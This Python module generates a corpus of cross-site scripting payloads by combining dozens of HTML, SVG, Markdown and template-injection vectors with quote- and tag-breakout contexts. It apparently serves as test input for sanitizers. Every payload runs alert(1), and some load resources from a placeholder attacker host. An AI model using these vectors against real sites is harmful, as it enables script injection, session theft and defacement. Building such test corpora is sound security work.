"""Lines that would run a script where a page took them for anything but text: each way to run, in each place."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

ELEMENTS = (
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script/x>RUN</script>", "<scr<script>ipt>RUN</script>", "<script>RUN<!--", "<script src=data:text/javascript,RUN></script>",
    "<script src='data:,RUN'></script>", "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", "<img/src=x/onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<image src=x onerror=RUN>",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><g onload=RUN></g></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:RUN><text x=9 y=9>x</text></a></svg>", "<math><mtext><script>RUN</script></mtext></math>", "<math href=javascript:RUN>x</math>",
    "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>RUN</script>'></iframe>", "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>",
    "<details open ontoggle=RUN>x</details>", "<video src=x onerror=RUN></video>", "<audio src=x onerror=RUN></audio>", "<video><source onerror=RUN></video>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN></select>", "<textarea autofocus onfocus=RUN></textarea>", "<button onclick=RUN>x</button>", "<p onmouseover=RUN>x</p>",
    "<b onclick=RUN>x</b>", "<marquee onstart=RUN>x</marquee>", "<body onload=RUN>", "<form action=javascript:RUN><input type=submit></form>", "<button formaction=javascript:RUN>x</button>",
    "<a href=javascript:RUN>x</a>", "<a href=' javascript:RUN'>x</a>", "<a href='java&#9;script:RUN'>x</a>", "<a href='&#106;avascript:RUN'>x</a>", "<a href='JaVaScRiPt:RUN'>x</a>",
    "<a href=data:text/html,<script>RUN</script>>x</a>", "<a onclick=RUN href=#>x</a>", "<base href=javascript:RUN/><a href=#>x</a>", "<meta http-equiv=refresh content=0;url=javascript:RUN>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>", "<img src=https://evil.example/x.png>", "<p style=background:url(https://evil.example/y.png)>x</p>",
    "<template><script>RUN</script></template>", "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<table background=https://evil.example/t.png>", "<keygen autofocus onfocus=RUN>", "<isindex action=javascript:RUN>",
    "[x](javascript:RUN)", "[x](JAVASCRIPT:RUN)", "[x]( javascript:RUN)", "[x](<javascript:RUN>)", "[x](javascript&colon;RUN)", "[x](java\tscript:RUN)", "[x](data:text/html,<script>RUN</script>)",
    "[x](vbscript:RUN)", "![x](javascript:RUN)", "![x](x\" onerror=\"RUN)", "![x\" onerror=\"RUN](x)", "<javascript:RUN>", "[x](https://a.example/\" onclick=\"RUN)", "[x](# 'y' onclick='RUN')", "[[x\" onclick=\"RUN]]",
    "{: onclick=RUN }", "x{: onmouseover=RUN }", "# x {#y onclick=RUN}", "{{ cycler.__init__.__globals__ }}<script>RUN</script>",
)  # fmt: skip
"""Ways to run something, or to ask another computer for something. RUN: the script."""

PLACES = ("{}", "'>{}", '">{}', "</title></textarea></style></script>{}", "-->{}", "x' {} y=\"", "</section>{}")
"""What may stand around it where it gets onto a page: text, a value, a remark, an element."""

LINES = [place.replace("{}", element.replace("RUN", RUN)) for element, place in product(ELEMENTS, PLACES)]
